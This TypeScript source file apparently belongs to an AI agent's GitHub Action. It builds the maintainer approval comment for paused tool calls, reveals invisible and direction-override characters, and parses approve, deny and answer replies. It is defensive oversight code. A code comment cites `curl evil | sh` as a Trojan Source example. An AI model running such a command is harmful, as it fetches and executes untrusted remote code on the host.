/**
 * The question comment a suspended run posts, and the grammar of a maintainer's reply to it.
 *
 * Calls are numbered 1..N in the order the model asked; a reply names them by those numbers.
 * A reply may hold several lines, each starting with the trigger word, so one comment can approve
 * one call and answer a question of the same batch. A waiting call the reply does not mention is
 * denied, and the model is told so: nothing runs without an explicit yes.
 */
import type { PendingApproval, ApprovalAnswer } from '../../scheduler/types.js';
import type { RuleRef } from '../../policy/types.js';
import { callsDigestOf } from '../../session/sign.js';
import { redactSecrets } from '../../common/redact.js';
import { formatMarker, tryParseMarker } from '../markers.js';
import { displayRuleSource } from '../rule-source.js';
import { makeInert, makeInertLine } from '../publish/inert-text.js';
import { describeApprovedCommand, type SandboxView } from '../sandbox-text.js';
import { isoTime } from '../../common/time.js';

const APPROVAL_MARKER_KIND = 'approval';

export interface ApprovalCommentInput {
  sessionId: string;
  nonce: string;
  pending: readonly PendingApproval[];
  createdAt: string;
  expiresAt: string;
  /** The comment trigger word, `/agent` by default. */
  trigger: string;
  secrets: readonly string[];
  runUrl?: string;
  /** GITHUB_WORKSPACE: rule files are named relative to it, never by a runner path. */
  workspace?: string;
  /** This run's sandbox: under a shell command, whether it runs confined once approved. */
  sandbox?: SandboxView;
}

const MAX_BLOCK = 4000;

/** The tool whose commands run in the sandbox (src/tools/builtin/run-shell-command.ts). */
const SHELL_TOOL = 'run_shell_command';

/**
 * Characters that change how text looks without being seen: direction overrides and isolates
 * (Trojan Source: `curl evil | sh` can read as something else), zero-width and invisible ones, the
 * soft hyphen. A maintainer approves what the comment shows, so each is shown as `⟪U+202E⟫`.
 */
const HIDDEN_CHARS = /[\u00AD\u061C\u180E\u200B-\u200F\u202A-\u202E\u2060-\u2064\u2066-\u2069\uFEFF]/g;

/** Pure: the text with every hidden character made visible, and how many there were. */
function revealHidden(text: string): { text: string; count: number } {
  let count = 0;
  const shown = text.replace(HIDDEN_CHARS, (c) => {
    count++;
    return `⟪U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}⟫`;
  });
  return { text: shown, count };
}

/** A fence longer than any backtick run inside, so model-written text cannot close it early. */
function fenced(lang: string, body: string): string {
  const text =
    body.length > MAX_BLOCK ? `${body.slice(0, MAX_BLOCK)}\n… (${body.length - MAX_BLOCK} more characters)` : body;
  const longest = Math.max(2, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));
  const fence = '`'.repeat(longest + 1);
  return `${fence}${lang}\n${text.replace(/\n$/, '')}\n${fence}`;
}

/** Inline code that survives backticks in the value. */
function code(text: string): string {
  const one = text.replace(/\s*\n\s*/g, ' ');
  const longest = Math.max(0, ...[...one.matchAll(/`+/g)].map((m) => m[0].length));
  const tick = '`'.repeat(longest + 1);
  return longest > 0 ? `${tick} ${one} ${tick}` : `${tick}${one}${tick}`;
}

export function describeRule(rule: RuleRef, workspace?: string): string {
  const source = displayRuleSource(rule.source, workspace);
  const where = rule.line > 0 ? `${source}:${rule.line}` : source;
  return `rule ${code(where)} (${rule.tier} tier, priority ${rule.priority})`;
}

/** Rounded down, so a window is never said to be longer than it is (its exact end follows). */
function describeDuration(ms: number): string {
  const hours = Math.floor(ms / 3_600_000);
  if (hours >= 48) return `${Math.floor(hours / 24)} days`;
  if (hours >= 1) return `${hours} hour${hours === 1 ? '' : 's'}`;
  const minutes = Math.max(1, Math.floor(ms / 60_000));
  return `${minutes} minute${minutes === 1 ? '' : 's'}`;
}

function renderCall(
  p: PendingApproval,
  n: number,
  { workspace, sandbox }: { workspace?: string | undefined; sandbox?: SandboxView | undefined },
): string {
  const lines: string[] = [];
  let hidden = 0;
  const reveal = (t: string) => {
    const r = revealHidden(t);
    hidden += r.count;
    return r.text;
  };
  if (p.question) {
    // The model's words: inert (no mentions, no markers) like everything else it publishes.
    lines.push(
      `**${n}. The agent asks:**`,
      '',
      ...makeInert(p.question.question)
        .split('\n')
        .map((l) => `> ${l}`),
    );
    if (p.question.choices?.length) {
      lines.push('', ...p.question.choices.map((c, i) => `${i + 1}. ${makeInertLine(c)}`));
    }
    return lines.join('\n');
  }
  lines.push(`**${n}. ${code(p.name)}**: ${makeInertLine(reveal(p.title))}`);
  const command = typeof p.args.command === 'string' ? p.args.command : undefined;
  if (command !== undefined) {
    lines.push('', fenced('sh', reveal(command)));
    if (typeof p.args.dir_path === 'string') lines.push(`in ${code(reveal(p.args.dir_path))}`);
    if (p.name === SHELL_TOOL && sandbox) lines.push('', describeApprovedCommand(sandbox));
  } else if (p.preview) {
    lines.push('', fenced('diff', reveal(p.preview)));
  } else {
    lines.push('', fenced('json', reveal(JSON.stringify(p.args, null, 2))));
  }
  // The model's words, on one line: no mention, no marker, no HTML that folds away what follows.
  if (typeof p.args.description === 'string' && p.args.description)
    lines.push('', `Why: ${makeInertLine(reveal(p.args.description)).replace(/</g, '&lt;')}`);
  if (hidden > 0)
    lines.push(
      '',
      `⚠️ This call contains ${hidden} invisible or text-direction character${hidden === 1 ? '' : 's'}, shown above as ⟪U+…⟫: they change how the text looks, not what runs.`,
    );
  lines.push('', p.rule ? `Asked by ${describeRule(p.rule, workspace)}.` : 'No rule allowed it outright.');
  return lines.join('\n');
}

function howToAnswer(pending: readonly PendingApproval[], t: string): string[] {
  const approvals = pending.filter((p) => !p.question);
  const questions = pending.filter((p) => p.question);
  const lines: string[] = [];
  if (approvals.length > 0) {
    lines.push(
      `- ${code(`${t} approve`)}: run ${approvals.length === 1 ? 'it' : 'all of them'}`,
      `- ${code(`${t} approve always`)}: run ${approvals.length === 1 ? 'it' : 'them'}, and allow the same again without asking for the rest of this session`,
      `- ${code(`${t} deny <reason>`)}: refuse; the agent is told your reason`,
    );
    if (pending.length > 1) {
      lines.push(
        `- ${code(`${t} approve 1 3`)} / ${code(`${t} deny 2 <reason>`)}: answer call by call; a call you do not mention is refused`,
      );
    }
  }
  for (const q of questions) {
    const n = pending.indexOf(q) + 1;
    const prefix = questions.length > 1 ? `${t} answer ${n}` : `${t} answer`;
    const choice = q.question?.choices?.length ? ` or ${code(`${prefix} 2`)} to pick a choice by its number` : '';
    lines.push(`- ${code(`${prefix} <text>`)}${questions.length > 1 ? ` for question ${n}` : ''}${choice}`);
  }
  if (approvals.length > 0 && questions.length > 0)
    lines.push('', 'Put each answer on its own line to answer several in one comment.');
  return lines;
}

/**
 * The question comment, redacted, ending with the hidden marker that names session, nonce and the
 * digest of the waiting calls (shown too): a resume runs only calls that hash to it.
 */
export function renderApprovalComment(input: ApprovalCommentInput): string {
  const { pending, trigger } = input;
  const digest = callsDigestOf(pending);
  const onlyQuestions = pending.every((p) => p.question);
  const heading = onlyQuestions ? '### ❓ The agent has a question' : '### ⏸️ The agent is waiting for approval';
  const intro = onlyQuestions
    ? 'The run is paused until a maintainer answers.'
    : `The repository's policy asks a maintainer before ${pending.length === 1 ? 'this call runs' : 'these calls run'}. The run is paused; nothing below has run yet.`;
  const open = Date.parse(input.expiresAt) - Date.parse(input.createdAt);
  const until = isoTime(new Date(input.expiresAt))
    .replace('T', ' ')
    .replace(/:\d\d\.\d+Z$/, ' UTC');
  const body = [
    heading,
    '',
    intro,
    '',
    ...pending.flatMap((p, i) => [renderCall(p, i + 1, input), '']),
    `**How to answer** (reply within ${describeDuration(open)}, until ${until}; only people with write access can answer):`,
    '',
    ...howToAnswer(pending, trigger),
    '',
    `<sub>Session ${code(input.sessionId)} · calls digest ${code(digest)}${input.runUrl ? ` · [workflow run](${input.runUrl})` : ''}</sub>`,
    '',
    formatMarker(APPROVAL_MARKER_KIND, { session: input.sessionId, nonce: input.nonce, calls: digest }),
  ].join('\n');
  return redactSecrets(body, input.secrets);
}

export interface ApprovalMarker {
  session: string;
  nonce: string;
  /** The digest of the calls the question showed; absent in questions of older versions. */
  calls?: string;
}

/**
 * The session id, nonce and calls digest of a question comment's marker, or undefined. The marker is
 * the last line the action writes: an earlier one is text the model wrote (a command shown verbatim
 * in the comment can hold a forged marker), so only the last is read.
 */
export function tryParseApprovalMarker(body: string): ApprovalMarker | undefined {
  const last = body.lastIndexOf(`${formatMarker(APPROVAL_MARKER_KIND).slice(0, -' -->'.length)} `);
  const m = last < 0 ? undefined : tryParseMarker(body.slice(last), APPROVAL_MARKER_KIND);
  if (!m?.session || !m.nonce) return undefined;
  return { session: m.session, nonce: m.nonce, ...(m.calls ? { calls: m.calls } : {}) };
}

/** One line of a reply. Call numbers are 1-based; empty `calls` means every call of its kind. */
export type ReplyDirective =
  | { verb: 'approve'; always: boolean; calls: number[] }
  | { verb: 'deny'; calls: number[]; reason?: string }
  | { verb: 'answer'; call?: number; text: string }
  | { verb: 'continue' };

export type ReplyParse = { ok: true; directives: ReplyDirective[] } | { ok: false; error: string };

const NUMBER = /^#?(\d+)[,.]?$/;

/** Leading call numbers ("1 3", "1,3", "#2") and the rest of the text. */
function leadingNumbers(text: string): { calls: number[]; rest: string } {
  const calls: number[] = [];
  let rest = text.trim();
  for (;;) {
    const m = /^(#?\d+)(?:\s*,\s*|\s+|$)/.exec(rest);
    if (!m) break;
    const n = Number(NUMBER.exec(m[1])?.[1]);
    calls.push(n);
    rest = rest.slice(m[0].length);
  }
  return { calls, rest: rest.trim() };
}

function parseLine(verb: string, args: string, t: string): ReplyDirective | string {
  switch (verb) {
    case 'approve': {
      const tokens = args.split(/[\s,]+/).filter(Boolean);
      const calls: number[] = [];
      let always = false;
      for (const tok of tokens) {
        if (tok.toLowerCase() === 'always') always = true;
        else if (NUMBER.test(tok)) calls.push(Number(NUMBER.exec(tok)![1]));
        else return `${code(`${t} approve`)} takes call numbers and \`always\`; ${JSON.stringify(tok)} is neither`;
      }
      return { verb: 'approve', always, calls };
    }
    case 'deny': {
      const { calls, rest } = leadingNumbers(args);
      return rest ? { verb: 'deny', calls, reason: rest } : { verb: 'deny', calls };
    }
    case 'answer': {
      if (!args.trim()) return `${code(`${t} answer`)} needs the answer text (or a choice number)`;
      return { verb: 'answer', text: args.trim() };
    }
    case 'continue':
      return args.trim() ? `${code(`${t} continue`)} takes no arguments` : { verb: 'continue' };
    default:
      return `${JSON.stringify(verb)} is not an answer; use approve, deny or answer`;
  }
}

/**
 * Pure grammar of a reply: every line that starts with the trigger word is one directive; other lines
 * are ignored (people add context). A reply without any directive, or with a malformed one, is an
 * error with the reason.
 */
export function parseApprovalReply(body: string, trigger: string): ReplyParse {
  const directives: ReplyDirective[] = [];
  const lower = trigger.toLowerCase();
  for (const raw of body.split(/\r?\n/)) {
    const line = raw.trim();
    if (!line.toLowerCase().startsWith(lower)) continue;
    const rest = line.slice(trigger.length);
    if (rest && !/^\s/.test(rest)) continue;
    const m = /^(\S+)\s*([\s\S]*)$/.exec(rest.trim());
    if (!m) return { ok: false, error: `${code(trigger)} alone is not an answer; use approve, deny or answer` };
    const d = parseLine(m[1].toLowerCase(), m[2], trigger);
    if (typeof d === 'string') return { ok: false, error: d };
    directives.push(d);
  }
  if (directives.length === 0) return { ok: false, error: `the reply has no line starting with ${code(trigger)}` };
  if (directives.some((d) => d.verb === 'continue') && directives.length > 1) {
    return { ok: false, error: `${code(`${trigger} continue`)} cannot be combined with other answers` };
  }
  return { ok: true, directives };
}

export type AnswersResult = { ok: true; answers: ApprovalAnswer[] } | { ok: false; error: string };

/**
 * Turn directives into one answer per waiting call. Errors name the problem: a number that names no
 * waiting call, a call answered twice, a question approved, a choice that does not exist.
 */
export function answersFor(directives: readonly ReplyDirective[], pending: readonly PendingApproval[]): AnswersResult {
  const byCall = new Map<number, ApprovalAnswer>();
  const questions = pending.map((p, i) => (p.question ? i + 1 : 0)).filter(Boolean);
  const approvals = pending.map((p, i) => (p.question ? 0 : i + 1)).filter(Boolean);
  const count = `this request has ${pending.length} waiting call${pending.length === 1 ? '' : 's'}`;

  const set = (n: number, a: ApprovalAnswer): string | undefined => {
    if (!Number.isInteger(n) || n < 1 || n > pending.length) return `there is no call ${n}: ${count}`;
    if (byCall.has(n)) return `call ${n} is answered twice`;
    byCall.set(n, a);
    return undefined;
  };

  for (const d of directives) {
    let err: string | undefined;
    if (d.verb === 'continue')
      return {
        ok: false,
        error: 'this request waits for an answer; `continue` resumes only a run that stopped without one',
      };
    if (d.verb === 'approve') {
      const targets = d.calls.length ? d.calls : approvals;
      if (targets.length === 0)
        return { ok: false, error: 'there is nothing to approve: the waiting calls are questions; answer them' };
      for (const n of targets) {
        if (pending[n - 1]?.question) return { ok: false, error: `call ${n} is a question; answer it with \`answer\`` };
        err ??= set(n, { id: pending[n - 1]?.id ?? '', kind: 'approve', ...(d.always ? { always: true } : {}) });
      }
    } else if (d.verb === 'deny') {
      const targets = d.calls.length ? d.calls : pending.map((_, i) => i + 1);
      for (const n of targets)
        err ??= set(n, { id: pending[n - 1]?.id ?? '', kind: 'deny', ...(d.reason ? { reason: d.reason } : {}) });
    } else {
      let text = d.text;
      let n = questions.length === 1 ? questions[0] : undefined;
      if (questions.length === 0) return { ok: false, error: 'there is no question to answer in this request' };
      if (questions.length > 1) {
        const lead = leadingNumbers(text);
        if (lead.calls.length === 0)
          return {
            ok: false,
            error: `several questions wait (calls ${questions.join(', ')}); say which: \`answer <call> <text>\``,
          };
        n = lead.calls[0];
        text = [...lead.calls.slice(1), lead.rest].join(' ').trim();
        if (!text) return { ok: false, error: `the answer to call ${n} is empty` };
      }
      const q = pending[n! - 1]?.question;
      if (pending[n! - 1] && !q) return { ok: false, error: `call ${n} is not a question; approve or deny it` };
      const choices = q?.choices ?? [];
      const pick = NUMBER.exec(text);
      if (pick && choices.length > 0) {
        const i = Number(pick[1]);
        if (i < 1 || i > choices.length)
          return { ok: false, error: `choice ${i} does not exist: the question has ${choices.length} choices` };
        text = choices[i - 1];
      }
      err = set(n!, { id: pending[n! - 1]?.id ?? '', kind: 'answer', text });
    }
    if (err) return { ok: false, error: err };
  }

  const mentioned = [...byCall.keys()].sort((a, b) => a - b);
  const answers = pending.map((p, i): ApprovalAnswer => {
    const given = byCall.get(i + 1);
    if (given) return given;
    const reason = p.question
      ? 'The maintainer did not answer this question.'
      : `The maintainer answered only call${mentioned.length === 1 ? '' : 's'} ${mentioned.join(', ')}; this call was not approved.`;
    return { id: p.id, kind: 'deny', reason };
  });
  return { ok: true, answers };
}
